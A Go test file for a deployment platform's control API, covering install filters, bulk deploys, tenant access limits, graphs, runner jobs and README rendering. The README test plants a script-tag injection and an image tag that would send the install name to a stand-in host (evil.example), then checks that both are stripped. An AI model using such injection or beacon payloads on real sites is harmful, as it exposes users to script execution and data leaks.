package api_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/sync/errgroup"

	"github.com/berth-dev/berth/pkg/ctlapi"
)

// live makes installs of an app that count as provisioned on its newest release.
func (c caller) live(app string, names ...string) {
	c.d.t.Helper()
	for _, name := range names {
		made, err := c.CreateInstallWithResponse(c.d.t.Context(), nil, ctlapi.InstallRequest{
			Name: name, App: app, Customer: "customer-of-" + name, CreateCustomer: true, Labels: &ctlapi.Labels{"fleet": "yes"},
			Inputs: &ctlapi.InputValues{"api_key": "k"},
		})
		must(c.d.t, made, err, http.StatusCreated)
	}
	c.d.sql(`update installs i set state = 'live', release_id = (select r.id from releases r where r.app_id = i.app_id order by r.number desc limit 1) where name = any ($1)`, names)
}

func (d *door) sql(text string, args ...any) {
	d.t.Helper()
	if _, err := d.db.Admin().Exec(d.t.Context(), text, args...); err != nil {
		d.t.Fatalf("%s: %v", text, err)
	}
}

// proposed gives an install a change that waits for a decision, which ends in so
// many hours.
func (d *door) proposed(install string, hours int) {
	d.t.Helper()
	d.sql(`insert into workflows (id, org_id, install_id, number, kind, state, inputs_version, wait_reason, wait_on, wait_deadline, created_by)
		select 'wfl_' || name, org_id, id, 1, 'deploy', 'waiting', 1, 'decision', 'x', now() + interval '1 day', 'x' from installs where name = $1`, install)
	d.sql(`insert into steps (id, org_id, workflow_id, install_id, idx, name, kind, reason, state, wait_reason, wait_on, wait_deadline)
		select 'stp_' || name, org_id, 'wfl_' || name, id, 0, 'api', 'deploy', 'x', 'waiting', 'decision', 'x', now() + interval '1 day' from installs where name = $1`, install)
	d.sql(`insert into changes (id, org_id, install_id, workflow_id, step_id, resource_id, kind, state, inputs_version, state_version, effect_digest, effect, plan, wait_reason, wait_on, wait_deadline)
		select 'chg_' || i.name, i.org_id, i.id, 'wfl_' || i.name, 'stp_' || i.name, (select r.id from resources r where r.install_id = i.id and r.name = 'api'), 'deploy', 'proposed', 1, 1, 'sha256:x', '{}',
			'{"no_change":false,"create":0,"update":1,"replace":0,"delete":0,"objects":[{"address":"module.net.terraform_data.x","action":"update","fields":[{"path":"input","before":"\"a\"","after":"(sensitive)"}]}]}',
			'decision', 'x', now() + make_interval(hours => $2) from installs i where i.name = $1`, install, hours)
}

func TestFiltersOfInstalls(t *testing.T) {
	t.Parallel()
	d := newDoor(t)
	admin := d.org("initech")
	admin.released("hello", hello())
	admin.live("hello", "acme", "globex", "hooli", "umbrella")
	d.sql(`insert into checks (org_id, install_id, name, verdict) select org_id, id, 'c', case name when 'hooli' then 'unhealthy' else 'healthy' end from installs where name in ('hooli', 'acme')`)
	d.proposed("umbrella", 2)
	d.proposed("globex", 48)
	for _, tt := range []struct{ query, want string }{
		{"", "acme globex hooli umbrella"},
		{"waiting=decision", "globex umbrella"},
		{"waiting=any", "globex umbrella"},
		{"waiting=runner", ""},
		{"expiring=24h", "umbrella"},
		{"expiring=72h", "globex umbrella"},
		{"sort=health", "hooli globex umbrella acme"},
		{"sort=expiry", "umbrella globex acme hooli"},
		{"sort=newest", "umbrella hooli globex acme"},
		{"sort=expiry&waiting=any&health=unknown", "umbrella globex"},
	} {
		// Page by page, and each of one item, which is where a cursor goes wrong.
		var got []string
		for after, pages := "", 0; ; pages++ {
			_, _, body := admin.raw("GET", "/installs?limit=1&"+tt.query+after, "")
			var page ctlapi.InstallPage
			if err := json.Unmarshal(body, &page); err != nil || pages > 9 {
				t.Fatalf("%s: %v: %s", tt.query, err, body)
			}
			for _, i := range page.Items {
				got = append(got, i.Name)
			}
			if page.Next == "" {
				break
			}
			after = "&after=" + page.Next
		}
		if list := strings.Join(got, " "); list != tt.want {
			t.Errorf("%s: got %q, want %q", tt.query, list, tt.want)
		}
	}
	for _, bad := range []string{"expiring=soon", "expiring=-1h", "expiring=9000h", "sort=age", "waiting=Any!"} {
		if status, _, body := admin.raw("GET", "/installs?"+bad, ""); status != http.StatusUnprocessableEntity {
			t.Errorf("%s answered %d: %s", bad, status, body)
		}
	}
}

func (c caller) bulk(body string, header ...string) (int, ctlapi.Bulk, string) {
	c.d.t.Helper()
	target := "/bulk"
	if len(header) > 0 && header[0] == "dry" {
		target, header = "/bulk?dry_run=true", header[1:]
	}
	status, _, answer := c.raw("POST", target, body, header...)
	var out ctlapi.Bulk
	if err := json.Unmarshal(answer, &out); err != nil {
		c.d.t.Fatalf("%s", answer)
	}
	return status, out, string(answer)
}

func outcomes(b ctlapi.Bulk) (list []string) {
	for _, i := range b.Items {
		list = append(list, i.Install.Name+" "+string(i.Outcome)+" "+i.Code)
	}
	return list
}

func TestBulkDeploy(t *testing.T) {
	t.Parallel()
	d := newDoor(t)
	admin := d.org("initech")
	admin.released("hello", hello())
	admin.released("other", hello())
	admin.live("hello", "acme", "hooli")
	admin.live("other", "globex")
	// What cannot be deployed to: its app has no component of the name that is asked for.
	d.sql(`update installs set release_id = null where name = 'globex'`)
	d.sql(`delete from release_items where release_id in (select r.id from releases r join apps a on a.id = r.app_id where a.name = 'other')`)
	d.sql(`delete from releases r using apps a where a.id = r.app_id and a.name = 'other'`)

	orgID := ""
	if err := d.db.Admin().QueryRow(t.Context(), `select org_id from orgs where name = 'initech'`).Scan(&orgID); err != nil {
		t.Fatal(err)
	}
	const everywhere = `{"operation":"deploy","filter":{"labels":{"fleet":"yes"}}}`
	before := d.fingerprint(orgID)
	status, preview, raw := admin.bulk(everywhere, "dry")
	if status != http.StatusOK {
		t.Fatalf("preview answered %d: %s", status, raw)
	}
	want := []string{"acme would_start ", "globex refused conflict", "hooli would_start "}
	if diff := cmp.Diff(want, outcomes(preview)); diff != "" {
		t.Errorf("preview (-want +got):\n%s", diff)
	}
	if after := d.fingerprint(orgID); after != before {
		t.Error("a preview changed rows")
	}
	// Whoever agreed to other installs is refused.
	if status, _, raw := admin.bulk(`{"operation":"deploy","filter":{"app":"hello"}}`, "If-Match", preview.Version); status != http.StatusPreconditionFailed {
		t.Errorf("another set of installs answered %d: %s", status, raw)
	}
	status, made, raw := admin.bulk(everywhere, "If-Match", preview.Version, "Idempotency-Key", "once")
	if status != http.StatusAccepted || made.Version != preview.Version {
		t.Fatalf("bulk answered %d: %s", status, raw)
	}
	if _, again, raw := admin.bulk(everywhere, "If-Match", preview.Version, "Idempotency-Key", "once"); again.ID != made.ID {
		t.Errorf("the same key made another operation: %s", raw)
	}
	if n := d.count(`select count(*) from river_ctl.river_job where kind = 'bulk_advance'`); n != 1 {
		t.Errorf("%d jobs work on it, want 1", n)
	}
	// Two workers at once, and once more: each install has one workflow.
	var group errgroup.Group
	for range 2 {
		group.Go(func() error { return d.server.Bulk.Advance(t.Context(), orgID, made.ID) })
	}
	if err := group.Wait(); err != nil {
		t.Fatal(err)
	}
	if err := d.server.Bulk.Advance(t.Context(), orgID, made.ID); err != nil {
		t.Fatal(err)
	}
	got, err := admin.GetBulkWithResponse(t.Context(), made.ID)
	must(t, got, err, http.StatusOK)
	want = []string{"acme started ", "globex refused conflict", "hooli started "}
	if diff := cmp.Diff(want, outcomes(*got.JSON200)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if got.JSON200.State != ctlapi.BulkStateDone || got.JSON200.Counts != (ctlapi.BulkCounts{Started: 2, Refused: 1}) {
		t.Errorf("state %s, counts %+v", got.JSON200.State, got.JSON200.Counts)
	}
	if n := d.count(`select count(*) from workflows where kind = 'deploy'`); n != 2 {
		t.Errorf("%d workflows, want 2", n)
	}
	list, err := admin.ListBulksWithResponse(t.Context(), nil)
	must(t, list, err, http.StatusOK)
	if len(list.JSON200.Items) != 1 || list.JSON200.Items[0].Items != nil {
		t.Errorf("listed: %s", list.Body)
	}
}

func TestAttackBulkOutsideOnesRights(t *testing.T) {
	t.Parallel()
	d := newDoor(t)
	admin := d.org("initech")
	admin.released("hello", hello())
	admin.live("hello", "acme", "globex")
	d.sql(`update customers set name = 'acme-corp' where name = 'customer-of-acme'`)
	customer := admin.member(ctlapi.MemberRequest{Name: "carl", Kind: ctlapi.MemberRequestKindUser, Role: ctlapi.MemberRequestRoleCustomer, Customer: new("acme-corp")})
	local := admin.member(ctlapi.MemberRequest{Name: "lena", Kind: ctlapi.MemberRequestKindUser, Role: ctlapi.MemberRequestRoleOperator, Install: new("acme")})
	if status, _, raw := customer.bulk(`{"operation":"deploy","filter":{"app":"hello"}}`); status != http.StatusForbidden {
		t.Errorf("a customer's bulk deploy answered %d: %s", status, raw)
	}
	if status, _, raw := local.bulk(`{"operation":"deploy","filter":{"installs":["globex"]}}`); status != http.StatusNotFound {
		t.Errorf("an operator of one install names another: %d: %s", status, raw)
	}
	status, made, raw := local.bulk(`{"operation":"deploy","filter":{"app":"hello"}}`)
	if diff := cmp.Diff([]string{"acme pending "}, outcomes(made)); diff != "" || status != http.StatusAccepted {
		t.Errorf("an operator of one install deploys to: %d %s", status, raw)
	}
	for _, bad := range []string{
		`{"operation":"deploy","filter":{}}`, `{"operation":"teardown","filter":{"app":"hello"}}`,
		`{"operation":"deploy","filter":{"labels":{"fleet":"yes"}},"release":"1"}`, `{"operation":"deploy","filter":{"customer":"acme-corp","health":"unhealthy"}}`,
	} {
		if status, _, raw := admin.bulk(bad); status != http.StatusUnprocessableEntity {
			t.Errorf("%s answered %d: %s", bad, status, raw)
		}
	}
	// What the admin does in both is seen by a customer for its own install only.
	_, both, _ := admin.bulk(`{"operation":"deploy","filter":{"app":"hello"}}`)
	seen, err := customer.GetBulkWithResponse(t.Context(), both.ID)
	must(t, seen, err, http.StatusOK)
	if diff := cmp.Diff([]string{"acme pending "}, outcomes(*seen.JSON200)); diff != "" || strings.Contains(string(seen.Body), "globex") || seen.JSON200.Counts.Pending != 1 {
		t.Errorf("a customer sees: %s", seen.Body)
	}
	_, others, _ := admin.bulk(`{"operation":"deploy","filter":{"installs":["globex"]}}`)
	if got, err := customer.GetBulkWithResponse(t.Context(), others.ID); err != nil || got.StatusCode() != http.StatusNotFound {
		t.Errorf("a customer sees an operation on others: %v %s", err, got.Body)
	}
}

func TestResourcesAcrossInstalls(t *testing.T) {
	t.Parallel()
	d := newDoor(t)
	admin := d.org("initech")
	admin.released("hello", hello())
	admin.live("hello", "acme", "globex")
	d.sql(`update resources r set state = 'live', health = 'unhealthy' from installs i where i.id = r.install_id and i.name = 'globex' and r.name = 'api'`)
	customer := admin.member(ctlapi.MemberRequest{Name: "carl", Kind: ctlapi.MemberRequestKindUser, Role: ctlapi.MemberRequestRoleCustomer, Customer: new("customer-of-acme")})
	for _, tt := range []struct {
		who         caller
		query, want string
	}{
		{admin, "", "acme/api acme/web acme/sandbox acme/stack globex/api globex/web globex/sandbox globex/stack"},
		{admin, "kind=component&component=web", "acme/web globex/web"},
		{admin, "type=terraform_module&health=unhealthy", "globex/api"},
		{admin, "state=live", "globex/api"},
		{admin, "install=acme&kind=sandbox", "acme/sandbox"},
		{admin, "app=hello&health=healthy", ""},
		{customer, "kind=component", "acme/api acme/web"},
		{customer, "health=unhealthy", ""},
	} {
		var got []string
		for after := ""; ; {
			status, _, body := tt.who.raw("GET", "/resources?limit=3&"+tt.query+after, "")
			var page ctlapi.ResourceOfInstallPage
			if err := json.Unmarshal(body, &page); err != nil || status != http.StatusOK || len(got) > 20 {
				t.Fatalf("%s: %d %v: %s", tt.query, status, err, body)
			}
			for _, r := range page.Items {
				got = append(got, r.Install.Name+"/"+r.Name)
			}
			if after = "&after=" + page.Next; page.Next == "" {
				break
			}
		}
		if list := strings.Join(got, " "); list != tt.want {
			t.Errorf("%s: got %q, want %q", tt.query, list, tt.want)
		}
	}
	if status, _, body := customer.raw("GET", "/resources?install=globex", ""); status != http.StatusNotFound {
		t.Errorf("a customer names another's install: %d %s", status, body)
	}
}

func TestGraphsAndPlanTree(t *testing.T) {
	t.Parallel()
	d := newDoor(t)
	admin := d.org("initech")
	admin.released("hello", hello())
	admin.live("hello", "acme")
	d.proposed("acme", 2)
	drawing := ctlapi.GetConfigGraphParamsDrawing("dot")
	config, err := admin.GetConfigGraphWithResponse(t.Context(), "hello@1", &ctlapi.GetConfigGraphParams{Drawing: &drawing})
	must(t, config, err, http.StatusOK)
	if diff := cmp.Diff([][]string{{"sandbox"}, {"api"}, {"web"}}, config.JSON200.Layers); diff != "" {
		t.Errorf("layers (-want +got):\n%s", diff)
	}
	last := config.JSON200.Edges[len(config.JSON200.Edges)-1]
	wantEdge := ctlapi.GraphEdge{From: "web", To: "api", Reasons: []ctlapi.GraphReason{{Kind: "reference", Reference: ".nuon.components.api.outputs.url", File: "components/web.toml", Line: 7}}}
	if diff := cmp.Diff(wantEdge, last); diff != "" {
		t.Errorf("edge (-want +got):\n%s", diff)
	}
	if !strings.HasPrefix(config.JSON200.Drawing, "digraph ") {
		t.Errorf("drawing: %q", config.JSON200.Drawing)
	}

	customer := admin.member(ctlapi.MemberRequest{Name: "carl", Kind: ctlapi.MemberRequestKindUser, Role: ctlapi.MemberRequestRoleCustomer, Customer: new("customer-of-acme")})
	graph, err := customer.GetInstallGraphWithResponse(t.Context(), "acme")
	must(t, graph, err, http.StatusOK)
	if strings.Contains(string(graph.Body), ".toml") {
		t.Errorf("a customer sees where the vendor's folder says it: %s", graph.Body)
	}
	if i := slices.IndexFunc(graph.JSON200.Nodes, func(n ctlapi.GraphNode) bool { return n.Name == "web" }); graph.JSON200.Nodes[i].ResourceID == nil || *graph.JSON200.Nodes[i].State != "absent" {
		t.Errorf("web is shown as %+v", graph.JSON200.Nodes[i])
	}

	tree, err := customer.GetPlanTreeWithResponse(t.Context(), "chg_acme")
	must(t, tree, err, http.StatusOK)
	module := tree.JSON200.Roots[0]
	if module.Kind != "module" || module.Name != "net" || module.Children[0].Name != "x" || module.Children[0].Children[0].Hidden != true || tree.JSON200.Counts.Update != 1 {
		t.Errorf("tree: %s", tree.Body)
	}

	// Changes of a resource: by id, and by name in its install.
	for query, want := range map[string]int{"install=acme&resource=api": 1, "install=acme&resource=web": 0} {
		status, _, body := customer.raw("GET", "/changes?"+query, "")
		if status != http.StatusOK || strings.Count(string(body), `"chg_acme"`) != want {
			t.Errorf("%s answered %d: %s", query, status, body)
		}
	}
	if status, _, body := customer.raw("GET", "/changes?install=acme&resource=nope", ""); status != http.StatusNotFound {
		t.Errorf("a resource that is not there: %d %s", status, body)
	}
}

func TestJobsOfRunner(t *testing.T) {
	t.Parallel()
	d := newDoor(t)
	admin := d.org("initech")
	admin.released("hello", hello())
	admin.live("hello", "acme", "globex")
	runner := ""
	if err := d.db.Admin().QueryRow(t.Context(), `select r.id from runners r join installs i on i.id = r.install_id where i.name = 'acme'`).Scan(&runner); err != nil {
		t.Fatal(err)
	}
	for i, state := range []string{"succeeded", "failed", "queued"} {
		d.sql(`insert into runner_jobs (id, org_id, runner_id, install_id, resource_id, kind, operation, state, spec, timeout_seconds, error)
			select $1, r.org_id, r.id, r.install_id, (select x.id from resources x where x.install_id = r.install_id and x.name = 'api'), 'terraform_module', 'plan', $2, '{"secret":"of-the-spec"}', 60,
				case $2 when 'failed' then 'broken' end from runners r where r.id = $3`, fmt.Sprintf("job_%d", i), state, runner)
	}
	jobs, err := admin.ListRunnerJobsWithResponse(t.Context(), runner, &ctlapi.ListRunnerJobsParams{Limit: new(2)})
	must(t, jobs, err, http.StatusOK)
	if j := jobs.JSON200; len(j.Items) != 2 || j.Items[0].ID != "job_2" || j.Next != "job_1" || j.Items[0].Install.Name != "acme" || j.Items[0].Resource.Name != "api" {
		t.Errorf("jobs: %s", jobs.Body)
	}
	if strings.Contains(string(jobs.Body), "of-the-spec") {
		t.Error("a list of jobs shows their specs")
	}
	failed, err := admin.ListRunnerJobsWithResponse(t.Context(), runner, &ctlapi.ListRunnerJobsParams{State: new(ctlapi.JobStateFailed)})
	must(t, failed, err, http.StatusOK)
	if len(failed.JSON200.Items) != 1 || *failed.JSON200.Items[0].Error != "broken" {
		t.Errorf("failed jobs: %s", failed.Body)
	}
	other := admin.member(ctlapi.MemberRequest{Name: "lena", Kind: ctlapi.MemberRequestKindUser, Role: ctlapi.MemberRequestRoleOperator, Install: new("globex")})
	if got, err := other.ListRunnerJobsWithResponse(t.Context(), runner, nil); err != nil || got.StatusCode() != http.StatusNotFound {
		t.Errorf("an operator of another install: %v %s", err, got.Body)
	}
}

func TestReadmeOfInstall(t *testing.T) {
	t.Parallel()
	d := newDoor(t)
	admin := d.org("initech")
	folder := with(hello(), "README.md", "# {{ .nuon.name }} says {{ .nuon.inputs.inputs.greeting }}\n\nKey: {{ .nuon.inputs.inputs.api_key }}\n\n<nuon-component-card name=\"api\"></nuon-component-card>\n\n<img src=\"https://evil.example/{{ .nuon.name }}\">\n")
	folder = with(folder, "metadata.toml", "version = \"v2\"\ndisplay_name = \"Hello\"\nreadme = \"./README.md\"\n")
	admin.released("hello", folder)
	admin.live("hello", "acme", "globex")
	customer := admin.member(ctlapi.MemberRequest{Name: "carl", Kind: ctlapi.MemberRequestKindUser, Role: ctlapi.MemberRequestRoleCustomer, Customer: new("customer-of-acme")})
	early, err := customer.GetInstallReadmeWithResponse(t.Context(), "acme")
	problemOf(t, early, err, http.StatusConflict, "no_state")
	tree := `{"name": "acme", "inputs": {"inputs": {"greeting": "<script>alert(1)</script>", "api_key": {"$sealed": "c2VjcmV0"}}}}`
	d.sql(`insert into state_versions (org_id, install_id, version, inputs_version, tree, cause) select org_id, id, 1, 1, $1::jsonb, 'test' from installs where name = 'acme'`, tree)
	d.sql(`update installs set state_version = 1 where name = 'acme'`)
	d.sql(`insert into state_versions (org_id, install_id, version, inputs_version, tree, cause) select org_id, id, 1, 1, '{"name": "globex"}', 'test' from installs where name = 'globex'`)
	d.sql(`update installs set state_version = 1 where name = 'globex'`)
	got, err := customer.GetInstallReadmeWithResponse(t.Context(), "acme")
	must(t, got, err, http.StatusOK)
	for _, bad := range []string{"<script", "<img", "evil.example"} {
		if strings.Contains(got.JSON200.HTML, bad) {
			t.Errorf("the HTML has %q: %s", bad, got.JSON200.HTML)
		}
	}
	if !strings.Contains(got.JSON200.HTML, "<p>Key: (sealed)</p>") || strings.Contains(string(got.Body), "c2VjcmV0") {
		t.Errorf("a sensitive value: %s", got.Body)
	}
	if w := got.JSON200.Widgets; len(w) != 1 || w[0].Type != "component-card" || w[0].Resource == nil || w[0].Resource.Name != "api" || *w[0].Resource.State != "absent" {
		t.Errorf("widgets: %s", got.Body)
	}
	broken, err := admin.GetInstallReadmeWithResponse(t.Context(), "globex")
	problemOf(t, broken, err, http.StatusUnprocessableEntity, "readme_not_rendered")
	if other, err := customer.GetInstallReadmeWithResponse(t.Context(), "globex"); err != nil || other.StatusCode() != http.StatusNotFound {
		t.Errorf("a customer reads another's README: %v %s", err, other.Body)
	}
}
